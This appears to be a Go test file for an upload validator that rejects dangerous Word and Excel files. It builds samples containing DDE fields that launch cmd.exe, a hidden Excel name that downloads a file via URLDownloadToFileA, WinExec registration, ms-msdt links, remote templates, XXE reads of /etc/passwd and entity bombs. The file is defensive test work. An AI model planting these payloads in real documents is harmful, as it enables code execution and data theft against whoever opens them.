package upload

import (
	"fmt"
	"strings"
)

// documents have parts and words that they should not have.
func documents() (all []sample) {
	for name, code := range map[string]string{
		"word/vbaProject.bin": CodeMacros, "word/vbaData.xml": CodeMacros, "word/activeX/activeX1.xml": CodeMacros, "customUI/customUI14.xml": CodeMacros,
		"word/webextensions/webextension1.xml": CodeMacros, "word/embeddings/oleObject1.bin": CodeEmbedded, "word/embeddings/Microsoft_Excel_Sheet1.xlsx": CodeEmbedded,
		"word/afchunk.mht": CodeEmbedded, "WORD/VBAPROJECT.BIN": CodeMacros,
	} {
		all = append(all, bad("a document with "+name, "a.docx", with(raw{name: name, data: "<a/>"}), code))
	}
	for _, main := range []string{
		"application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
	} {
		all = append(all, bad("a document of the type "+main, "a.docx", docx(map[string]string{"[Content_Types].xml": types(main, "")}), CodeMacros))
	}
	for _, main := range []string{
		"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
		"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "application/xml",
	} {
		all = append(all, bad("a document that is inside "+main, "a.docx", docx(map[string]string{"[Content_Types].xml": types(main, "")}), CodeMismatch))
	}
	for more, code := range map[string]string{
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`:                                     CodeMacros,
		`<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>`:                                        CodeMacros,
		`<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`:                  CodeEmbedded,
		`<Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.main+xml"/>`: CodeMixed,
	} {
		all = append(all, bad("a document with a part of the type "+more, "a.docx", docx(map[string]string{"[Content_Types].xml": types(wordMain, more), "word/printerSettings1.bin": "harmless"}), code))
	}
	for line, code := range map[[3]string]string{
		{"attachedTemplate", "http://x/evil.dotm", "External"}:                                          CodeExternal,
		{"attachedTemplate", "file:///c:/evil.dotm", "External"}:                                        CodeExternal,
		{"image", "http://x/a.png", "External"}:                                                         CodeExternal,
		{"image", `\\x\share\a.png`, "External"}:                                                        CodeExternal,
		{"oleObject", "http://x/evil.html!", "External"}:                                                CodeEmbedded,
		{"oleObject", "mhtml:http://x/evil.html!x-usc:http://x/evil.html", "External"}:                  CodeEmbedded,
		{"oleObject", "embeddings/a.bin", ""}:                                                           CodeEmbedded,
		{"package", "embeddings/a.xlsx", ""}:                                                            CodeEmbedded,
		{"aFChunk", "a.html", ""}:                                                                       CodeEmbedded,
		{"subDocument", "http://x/a.docx", "External"}:                                                  CodeExternal,
		{"frame", "http://x/", "External"}:                                                              CodeExternal,
		{"mailMergeSource", "file:///c:/a.mdb", "External"}:                                             CodeExternal,
		{"control", "activeX1.xml", ""}:                                                                 CodeMacros,
		{"http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", ""}:              CodeMacros,
		{"http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI.xml", ""}: CodeMacros,
		{"hyperlink", `file://server/share/a.exe`, "External"}:                                          CodeExternal,
		{"hyperlink", `\\server\share`, "External"}:                                                     CodeExternal,
		{"hyperlink", "javascript:alert(1)", "External"}:                                                CodeExternal,
		{"hyperlink", "ms-msdt:/id PCWDiagnostic", "external"}:                                          CodeExternal,
		{"hyperlink", `http://x\@server/share`, "External"}:                                             CodeExternal,
		{"video", "https://x/", "External"}:                                                             CodeExternal,
		{"settings", "../../../etc/passwd", ""}:                                                         CodeEntryName,
		{"settings", "http://x/settings.xml", ""}:                                                       CodeExternal,
		{"settings", "//x/settings.xml", ""}:                                                            CodeExternal,
		{"settings", "absent.xml", ""}:                                                                  CodeBroken,
	} {
		all = append(all, bad(fmt.Sprintf("a relationship %.60v", line), "a.docx", related(rel(line[0], line[1], line[2])), code))
	}
	instr := func(pieces ...string) []byte {
		var b strings.Builder
		b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
		for _, p := range pieces {
			b.WriteString(`<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`)
		}
		return body(b.String() + `<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	}
	return append(all,
		bad("a field of DDE", "a.docx", instr(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`), CodeDDE),
		bad("a field of DDE, in small letters", "a.docx", instr(` dde excel a b`), CodeDDE),
		bad("a field of DDE, in pieces", "a.docx", instr(` DD`, `EA`, `UTO c:\\x`), CodeDDE),
		bad("a field of DDE, in two paragraphs", "a.docx", body(`<w:p><w:r><w:instrText> DD</w:instrText></w:r></w:p><w:p><w:r><w:instrText>E x y</w:instrText></w:r></w:p>`), CodeDDE),
		bad("a field of DDE, spelt in numbers", "a.docx", instr(` QUOTE 68 68 69 65 `), CodeDDE),
		bad("a simple field of DDE", "a.docx", body(`<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x "/></w:p>`), CodeDDE),
		bad("a deleted field of DDE", "a.docx", body(`<w:p><w:r><w:delInstrText> DDE x y</w:delInstrText></w:r></w:p>`), CodeDDE),
		bad("a field that fetches a picture", "a.docx", instr(` INCLUDEPICTURE "http://x/a.png" \d`), CodeExternal),
		bad("a field that fetches a text", "a.docx", instr(` INCLUDETEXT "\\\\x\\a.docx"`), CodeExternal),
		bad("a field that links a sheet", "a.docx", instr(` LINK Excel.Sheet.12 "C:\\a.xlsx" "A1" \a`), CodeExternal),
		bad("a field that leads to a share", "a.docx", instr(` HYPERLINK "\\\\server\\share\\a.exe"`), CodeExternal),
		bad("a field that leads to a file", "a.docx", instr(` HYPERLINK "file:///c:/a.exe"`), CodeExternal),
		bad("a field that leads to a helper", "a.docx", instr(` HYPERLINK "search-ms:query=x"`), CodeExternal),
		bad("a field of DDE with a false end within", "a.docx", body(`<w:p xmlns:x="urn:x"><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:fldChar x:fldCharType="end"/></w:r><w:r><x:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>E x y</w:instrText></w:r></w:p>`), CodeDDE),
		bad("a field of DDE behind many", "a.docx", body(strings.Repeat(`<w:r><w:instrText> PAGE </w:instrText></w:r>`, 3000)+`<w:r><w:instrText> DDE x y</w:instrText></w:r>`), CodeDDE),
		bad("a relationship in a part in capitals", "a.docx", docx(map[string]string{"WORD/_RELS/DOCUMENT.XML.RELS": rels(rel("attachedTemplate", "http://x/a.dotm", "External"))}), CodeExternal),
		bad("a relationship that is inside by another's word", "a.docx", related(`<Relationship xmlns:x="urn:x" x:TargetMode="Internal" Id="r1" Type="`+relType+`image" Target="http://x/a.png" TargetMode="External"/>`), CodeExternal),
		bad("a relationship that is harmless by another's word", "a.docx", related(`<Relationship xmlns:x="urn:x" x:Type="`+relType+`hyperlink" Id="r1" Type="`+relType+`image" Target="http://x/a.png" TargetMode="External"/>`), CodeExternal),
		bad("an object in the text", "a.docx", body(`<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object></w:r></w:p>`), CodeEmbedded),
		bad("a chunk of another format", "a.docx", body(`<w:altChunk/>`), CodeEmbedded),
		bad("a drawing that fetches", "a.docx", body(`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://x/a.png"/></v:shape></w:pict></w:r></w:p>`), CodeExternal),
		bad("a drawing that fetches from a share", "a.docx", body(`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\x\a"/></v:shape></w:pict></w:r></w:p>`), CodeExternal),
		bad("a document without its list of types", "a.docx", zipOf(ordered(wordParts(""))[1:]...), CodeMismatch),
	)
}

func workbooks() (all []sample) {
	for name, code := range map[string]string{
		"xl/vbaProject.bin": CodeMacros, "xl/macrosheets/sheet1.xml": CodeMacros, "xl/dialogsheets/sheet1.xml": CodeMacros, "xl/externalLinks/externalLink1.xml": CodeExternal,
		"xl/connections.xml": CodeExternal, "xl/queryTables/queryTable1.xml": CodeExternal, "xl/embeddings/oleObject1.bin": CodeEmbedded, "xl/model/item.data": CodeExternal,
	} {
		all = append(all, bad("a workbook with "+name, "a.xlsx", rebook(func(p map[string]string) { p[name] = "<a/>" }), code))
	}
	typed := func(from, to string) []byte {
		return rebook(func(p map[string]string) {
			p["[Content_Types].xml"] = strings.ReplaceAll(p["[Content_Types].xml"], from, to)
		})
	}
	name := func(n, refers string) []byte {
		return rebook(func(p map[string]string) {
			p["xl/workbook.xml"] = strings.Replace(p["xl/workbook.xml"], "</workbook>", `<definedNames><definedName name="`+n+`" hidden="1">`+refers+`</definedName></definedNames></workbook>`, 1)
		})
	}
	return append(all,
		bad("a workbook with macros as its type", "a.xlsx", typed(mains[XLSX], "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), CodeMacros),
		bad("a workbook with old macros as a type", "a.xlsx", typed("application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", "application/vnd.ms-excel.intlmacrosheet+xml"), CodeMacros),
		bad("a workbook of binary parts", "a.xlsx", typed(mains[XLSX], "application/vnd.ms-excel.sheet.binary.macroEnabled.main"), CodeMacros),
		bad("a template of a workbook", "a.xlsx", typed(mains[XLSX], "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"), CodeMismatch),
		bad("a name that runs on opening", "a.xlsx", name("_xlnm.Auto_Open", "Sheet1!$A$1"), CodeMacros),
		bad("a name that runs on closing", "a.xlsx", name("AUTO_CLOSE1", "Sheet1!$A$1"), CodeMacros),
		bad("a name that calls", "a.xlsx", name("x", `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x","c:\x",0,0)`), CodeExternal),
		bad("a formula of DDE", "a.xlsx", formula(`cmd|'/c calc'!A0`), CodeDDE),
		bad("a formula of DDE without marks", "a.xlsx", formula(`MSEXCEL|a!b`), CodeDDE),
		bad("a formula of DDE behind a sum", "a.xlsx", formula(`1+"x"&amp;cmd|'/c calc'!A0`), CodeDDE),
		bad("a formula that fetches", "a.xlsx", formula(`_xlfn.WEBSERVICE("http://x/?"&amp;A1)`), CodeExternal),
		bad("a formula that fetches a picture", "a.xlsx", formula(`_xlfn.IMAGE("http://x")`), CodeExternal),
		bad("a formula that asks a server", "a.xlsx", formula(`RTD("x",,"y")`), CodeExternal),
		bad("a formula that registers", "a.xlsx", formula(`REGISTER.ID("kernel32","WinExec")`), CodeExternal),
		bad("a formula that runs", "a.xlsx", formula(`EXEC ("calc")`), CodeExternal),
		bad("a formula of another workbook", "a.xlsx", formula(`[1]Sheet1!A1`), CodeExternal),
		bad("a formula of another workbook, in marks", "a.xlsx", formula(`SUM('[2]表 1'!A1:A9)`), CodeExternal),
		bad("a formula of a workbook elsewhere", "a.xlsx", formula(`'http://x/[a.xlsx]S'!A1`), CodeExternal),
		bad("a formula of a workbook on a share", "a.xlsx", formula(`'\\x\y\[a.xlsx]S'!A1`), CodeExternal),
		bad("a formula in a condition", "a.xlsx", rebook(func(p map[string]string) {
			p["xl/worksheets/sheet1.xml"] = strings.Replace(p["xl/worksheets/sheet1.xml"], "</sheetData>", `</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>`, 1)
		}), CodeDDE),
		bad("a link of DDE", "a.xlsx", sheet(`<c r="A1"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></c>`), CodeDDE),
		bad("an object in a sheet", "a.xlsx", sheet(`<c r="A1"><oleObject progId="Package"/></c>`), CodeEmbedded),
	)
}

func xmls() (all []sample) {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`
	for what, doc := range map[string]string{
		"entities that multiply":          laughs,
		"an entity from a file":           `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
		"an entity from elsewhere":        `<!DOCTYPE a SYSTEM "http://x/a.dtd"><a/>`,
		"a parameter entity":              `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x">%x;]><a/>`,
		"a declaration behind the root":   `<a/><!DOCTYPE a>`,
		"a notation":                      `<!DOCTYPE a [<!NOTATION x SYSTEM "x">]><a/>`,
		"an entity of quadratic blow-up":  `<!DOCTYPE a [<!ENTITY a "` + strings.Repeat("a", 5000) + `">]><a>` + strings.Repeat("&a;", 5000) + `</a>`,
		"a declaration in capital letter": `<!ELEMENT a ANY><a/>`,
	} {
		all = append(all, bad(what+" in a document", "a.docx", docx(map[string]string{"word/styles.xml": doc}), CodeEntities))
	}
	all = append(all,
		bad("entities in a workbook", "a.xlsx", rebook(func(p map[string]string) { p["xl/sharedStrings.xml"] = laughs }), CodeEntities),
		bad("entities in the list of types", "a.docx", docx(map[string]string{"[Content_Types].xml": laughs}), CodeEntities),
		bad("entities in relationships", "a.docx", docx(map[string]string{"_rels/.rels": laughs}), CodeEntities),
		bad("entities in a drawing", "a.docx", docx(map[string]string{"word/vmlDrawing1.vml": laughs}), CodeEntities),
		bad("a style sheet", "a.docx", docx(map[string]string{"word/styles.xml": `<?xml-stylesheet href="http://x/a.xsl" type="text/xsl"?><a/>`}), CodePart),
	)
	for what, doc := range map[string]string{
		"no root":                     "",
		"two roots":                   "<a/><b/>",
		"an open end":                 "<a><b></b>",
		"deep nesting":                strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000),
		"an entity that nobody knows": "<a>&x;</a>",
		"another encoding":            `<?xml version="1.0" encoding="UTF-7"?><a/>`,
		"no UTF-8":                    "<a>\xff</a>",
		"one endless text":            "<a>" + strings.Repeat("0123456789abcdef", 400_000) + "</a>",
		"one endless element":         `<a b="` + strings.Repeat("0123456789abcdef", 400_000) + `"/>`,
		"no XML":                      "MZ",
	} {
		code := CodeBroken
		if doc == "MZ" {
			code = CodeEmbedded
		}
		e := ordered(wordParts(paragraph("x")))
		all = append(all, bad(what+" in a part", "a.docx", zipOf(append(e, raw{name: "word/styles.xml", data: doc, store: true})...), code))
	}
	return all
}
